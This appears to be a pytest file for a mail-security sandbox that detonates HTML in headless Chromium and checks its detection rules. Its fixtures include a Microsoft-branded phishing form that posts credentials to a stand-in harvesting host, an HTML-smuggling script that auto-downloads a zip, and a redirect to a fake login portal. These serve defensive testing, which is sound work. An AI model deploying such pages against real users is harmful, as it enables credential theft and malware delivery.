"""HTML rendered in headless Chromium in the sandbox: the DevTools driver's report, the page rules, and real
pages (written by the test) detonated in the process backend's sandbox: a credential form posting to another
domain, HTML smuggling of a zip, an auto-redirect, benign pages (Debian's own HTML documentation) staying clean.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
from pathlib import Path

import pytest

from mailvm.guest import browser, docrules
from mailvm.guest import launcher as L
from mailvm.guest.detonate import detonate
from mailvm.guest.rules import RULES, RuleContext, RuleEngine
from mailvm.guest.sandbox import sandbox_tools

PHISH = b"""<!doctype html><html><head><title>Microsoft 365 - Sign in</title></head><body>
<img src="ms-logo.png" alt="Microsoft"><h1>Sign in to your Microsoft account</h1>
<form action="http://collect.evil-harvest.test/post.php" method="post"><input name="login" type="email">
<input name="pw" type="password"><button>Sign in</button></form></body></html>"""

#: a zip built in the page's script and handed to the browser as a blob download (HTML smuggling)
SMUGGLE = b"""<!doctype html><html><head><title>Your document</title></head><body><p>Downloading your invoice...</p>
<script>
var b64 = "UEsDBBQAAAAAAAAAIQAAAAAAAAAAAAAAAAAIAAAAaW52b2ljZS5leGVQSwECFAAUAAAAAAAAACEAAAAAAAAAAAAAAAAACAAAAAAAAAAA" +
          "AAAAAAAAAGludm9pY2UuZXhlUEsFBgAAAAABAAEANgAAACYAAAAAAA==";
var bin = atob(b64), a = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) a[i] = bin.charCodeAt(i);
var l = document.createElement("a");
l.href = URL.createObjectURL(new Blob([a], {type: "application/zip"}));
l.download = "Invoice_2024.zip"; document.body.appendChild(l); l.click();
</script></body></html>"""

REDIRECT = b"""<!doctype html><html><head><title>Loading</title>
<meta http-equiv="refresh" content="0; url=http://secure-login.portal-verify.test/index.html"></head>
<body>Please wait...</body></html>"""

NEWSLETTER = b"""<!doctype html><html><head><title>Spring newsletter</title></head><body>
<h1>Spring newsletter</h1><p>Our garden club meets on Tuesday. <a href="http://club.example/agenda">Agenda</a></p>
<form action="/search"><input name="q"><button>Search</button></form></body></html>"""


# ------------------------------------------------------------------ pure


def _report(**kw) -> dict:
    base = {"url": "file:///work/a.html", "loaded": True, "navigations": ["file:///work/a.html"], "http_redirects": 0,
            "downloads": [], "page": {"url": "file:///work/a.html", "title": "", "forms": [], "images": [],
                                      "text": ""}}
    base.update(kw)
    return base


def _found(events) -> dict[str, int]:
    ctx = RuleContext(role="viewer", viewer_exes=L.CHROMIUM_EXES, sample_path="/work/a.html")
    e = RuleEngine(ctx, RULES + docrules.browser_rules())
    for ev in events:
        e.feed(ev)
    return {f.id: f.severity for f in e.findings()}


def test_report_events_and_page_rules():
    page = {"url": "https://login.micros0ft-support.test/", "title": "Sign in to Outlook", "text": "",
            "images": [{"src": "https://x.test/img/logo_ms.png", "alt": "", "cls": ""}],
            "forms": [{"action": "https://gate.evil.test/p.php", "method": "post", "password": True, "inputs": []}]}
    evs = browser.report_events(_report(page=page, navigations=["file:///work/a.html", page["url"]],
                                        http_redirects=1))
    assert evs[0]["type"] == "page" and evs[0]["redirects"] == 2 and evs[0]["brands"] == ["microsoft"]
    assert evs[0]["logos"] == ["logo_ms.png"] and evs[1]["other_host"] is True
    found = _found(evs)
    assert found["page_password_form_other_domain"] == 6 and found["page_password_form_brand"] == 8
    assert found["page_redirect_to_credentials"] == 6
    own = {"url": "https://login.microsoftonline.com/", "title": "Sign in to your Microsoft account", "text": "",
           "images": [], "forms": [{"action": "https://login.microsoftonline.com/common/login", "password": True}]}
    found = _found(browser.report_events(_report(page=own)))
    assert "page_password_form_brand" not in found and "page_password_form_other_domain" not in found


def test_downloads_smuggled_or_not():
    zip_head = base64.b64encode(b"PK\x03\x04" + b"\0" * 12).decode()
    smuggled = _found(browser.report_events(_report(downloads=[
        {"url": "blob:null/1", "name": "Invoice.zip", "size": 118, "state": "completed", "head": zip_head}])))
    assert smuggled["page_smuggled_download"] == 9
    plain = _found(browser.report_events(_report(downloads=[
        {"url": "http://files.example/report.pdf", "name": "report.pdf", "size": 9, "state": "completed",
         "head": base64.b64encode(b"%PDF-1.7").decode()}])))
    assert "page_smuggled_download" not in plain and plain["page_download"] == 4


def test_brands_and_hostile_reports_are_bounded():
    assert browser.brands_in("DocuSign: review document", "paypal-logo.svg") == ["paypal", "docusign"]
    assert browser.brands_in("Garden club newsletter") == []
    junk = {"url": 5, "navigations": "x", "downloads": [None, {"head": "%%%"}], "page": {"forms": [1] * 500}}
    evs = browser.report_events(junk)
    assert evs[0]["type"] == "page" and len([e for e in evs if e["type"] == "form"]) == 0
    assert [e["type"] for e in evs].count("download") == 1


def test_chromium_flags_keep_google_away_and_use_the_pipe():
    flags = set(browser.CHROMIUM_FLAGS)
    for f in ("--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync",
              "--no-first-run", "--disable-quic", "--remote-debugging-pipe", "--headless"):
        assert f in flags
    launch, why = L.choose(L.SampleInfo("a.html", head=b"<!doctype html>"), "/work/a.html",
                           find=lambda n: f"/usr/bin/{n}" if n in ("chromium", "python3") else None)
    assert launch is not None and launch.launcher == "html_chromium", why
    assert launch.argv[:4] == ("/usr/bin/python3", "-I", "-S", L.BROWSER_DRIVER_IN) and launch.proof == "browser"


# ------------------------------------------------------------------ real pages in the sandbox


def _missing() -> str | None:
    if os.geteuid() != 0:
        return "needs root"
    _, missing = sandbox_tools()
    if missing:
        return "sandbox tools missing: " + ", ".join(missing)
    if L.find_tool("chromium") is None:
        return "Debian's chromium is not installed (scripts/setup.sh installs it)"
    return None


REASON = _missing()
needs_chromium = pytest.mark.skipif(REASON is not None, reason=REASON or "")


def _detonate(tmp_path: Path, name: str, data: bytes) -> dict:
    src = tmp_path / name
    src.write_bytes(data)
    wd = tmp_path / ("wd-" + name)
    wd.mkdir()
    r = detonate(str(src), {"name": name, "kind": "html", "timeout_s": 90, "idle_s": 3}, str(wd))
    json.dumps(r)
    assert os.listdir(wd) == []
    return r


def _ids(r: dict) -> dict[str, int]:
    return {f["id"]: f["severity"] for f in r["findings"]}


@pytest.mark.sandbox
@pytest.mark.slow
@needs_chromium
def test_password_form_posting_elsewhere_is_judged_by_the_browser_run(tmp_path):
    r = _detonate(tmp_path, "Microsoft_Login.html", PHISH)
    found = _ids(r)
    assert r["executed"] is True and r["execution"]["proof"].startswith("chromium rendered file:///work/")
    assert found.get("page_password_form_other_domain") == 6 and found.get("page_password_form_brand") == 8
    assert r["verdict"] == "malicious", r["findings"]
    form = next(e for e in r["log"] if e.get("type") == "form")
    assert form["action"] == "http://collect.evil-harvest.test/post.php" and form["password"] is True
    shot = r["screenshots"][0]
    assert base64.b64decode(shot["png_b64"]).startswith(b"\x89PNG") and shot["url"] == "file:///work/Microsoft_Login.html"
    assert any(e.get("type") == "screenshot" and e.get("kept") for e in r["log"])


@pytest.mark.sandbox
@pytest.mark.slow
@needs_chromium
def test_smuggled_zip_is_malicious(tmp_path):
    r = _detonate(tmp_path, "Invoice.html", SMUGGLE)
    assert _ids(r).get("page_smuggled_download") == 9 and r["verdict"] == "malicious", r["findings"]
    dl = next(e for e in r["log"] if e.get("type") == "download")
    assert dl["name"] == "Invoice_2024.zip" and dl["scripted"] and dl["magic"] == "a zip archive"


@pytest.mark.sandbox
@pytest.mark.slow
@needs_chromium
def test_auto_redirect_is_followed_to_the_simulated_internet(tmp_path):
    r = _detonate(tmp_path, "Loading.html", REDIRECT)
    page = next(e for e in r["log"] if e.get("type") == "page")
    assert page["url"] == "http://secure-login.portal-verify.test/index.html" and page["redirects"] >= 1, page
    assert _ids(r).get("page_auto_navigation") == 3
    assert any(e.get("type") == "http" and "portal-verify.test" in str(e.get("url")) for e in r["log"])


@pytest.mark.sandbox
@pytest.mark.slow
@needs_chromium
@pytest.mark.parametrize("name,data", [
    ("newsletter.html", NEWSLETTER),
    ("users-and-groups.html", None),
])
def test_benign_pages_stay_clean(tmp_path, name, data):
    if data is None:
        doc = Path("/usr/share/doc/base-passwd/users-and-groups.html")
        if not doc.is_file():
            pytest.skip(f"{doc} is not installed")
        data = doc.read_bytes()
    r = _detonate(tmp_path, name, data)
    assert r["executed"] is True and r["verdict"] == "clean" and r["score"] < 4, r["findings"]


# ------------------------------------------------------------------ the screenshot on the host


def test_screenshots_are_validated_stored_and_named(tmp_path):
    from mailvm.vmpool import evidence, shmpage
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 100
    raw = [{"name": "page.png", "url": "file:///work/a.html", "png_b64": base64.b64encode(png).decode()},
           {"png_b64": base64.b64encode(b"GIF89a....").decode()},  # not a PNG
           {"png_b64": "!!!not base64"}, "junk",
           {"png_b64": "A" * (evidence.MAX_PNG_BYTES * 2)}]  # too large
    checked = shmpage.check_result({"schema": 1, "verdict": "clean", "score": 0, "findings": [],
                                    "screenshots": raw})["screenshots"]
    assert len(checked) == 1 and checked[0]["png"] == png
    sha = "ab" * 32
    events = evidence.store_screenshots(checked, str(tmp_path), sha)
    assert events == [{"type": "screenshot", "path": f"ab/{sha}/0-page.png", "url": "file:///work/a.html",
                       "bytes": len(png)}]
    assert (tmp_path / events[0]["path"]).read_bytes() == png
    assert evidence.store_screenshots(checked, str(tmp_path), "../../etc") == []  # the name is a sha256 or nothing


@pytest.mark.sandbox
@pytest.mark.slow
@needs_chromium
def test_scan_stores_the_screenshot_and_cache_show_names_it(tmp_path):
    import subprocess
    import sys

    from mailvm.config import PoolConfig
    from mailvm.vmpool.backends.process import ProcessBackend
    why = ProcessBackend.probe(PoolConfig())
    if why:
        pytest.skip(why)
    cfg = tmp_path / "mailvm.toml"
    cfg.write_text(f"""
[spool]
dir = "{tmp_path}/spool"
[scantable]
path = "{tmp_path}/table"
[links]
enabled = false
[pool]
backend = "process"
slots = 1
work_dir = "{tmp_path}/pool"
job_timeout_s = 60
idle_s = 2
[triage]
yara_rules_dir = "{tmp_path}/yara"
""")
    page = tmp_path / "Microsoft_Login.html"
    page.write_bytes(PHISH.replace(b"</body>", b"<!-- " + tmp_path.name.encode() + b" --></body>"))

    def mvctl(*args):
        return subprocess.run([sys.executable, "-m", "mailvm.cli.mvctl", "-c", str(cfg), *args], capture_output=True,
                              timeout=300)

    res = mvctl("scan", "--json", str(page))
    report = json.loads(res.stdout)
    art = report["artifacts"][0]
    assert art["source"] == "detonation" and art["verdict"] == "malicious", art
    show = json.loads(mvctl("cache", "show", "--json", art["sha256"]).stdout)
    assert len(show["screenshots"]) == 1, show.get("log", [])[:4]
    shot = Path(show["screenshots"][0])
    assert shot.is_file() and shot.read_bytes().startswith(b"\x89PNG")
    assert shot.is_relative_to(tmp_path / "pool" / "evidence")
    text = mvctl("cache", "show", art["sha256"]).stdout.decode()
    assert f"screenshot {shot}" in text
